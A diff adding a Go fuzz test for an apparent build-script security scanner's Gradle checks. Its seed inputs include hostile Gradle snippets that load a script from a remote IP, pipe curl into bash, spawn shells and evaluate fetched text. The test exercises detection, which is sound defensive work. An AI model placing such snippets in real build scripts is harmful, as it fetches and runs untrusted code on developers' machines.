@@ -72,3 +72,19 @@ func FuzzScanCMake(f *testing.F) {
 		scanCMake(sc, "CMakeLists.txt", src)
 	})
 }
+
+// FuzzScanGradle: no Gradle script text stops the audit.
+func FuzzScanGradle(f *testing.F) {
+	for _, s := range []string{
+		"apply from: 'http://203.0.113.7/x.gradle'\n['bash', '-c', 'curl x | bash'].execute()",
+		"commandLine 'sh', '-c'\ncommandLine(\ncommandLine \"a\", 'b\nProcessBuilder(\"sh\", \"-c\", x)",
+		"def s = new URL('u').text\nEval.me(s)\n\"\\\".execute()",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, src string) {
+		sc := &skillCtx{ctx: context.Background(), skill: index.Skill{Name: "s"}}
+		sc.fileText = src
+		scanGradle(sc, "build.gradle", src)
+	})
+}
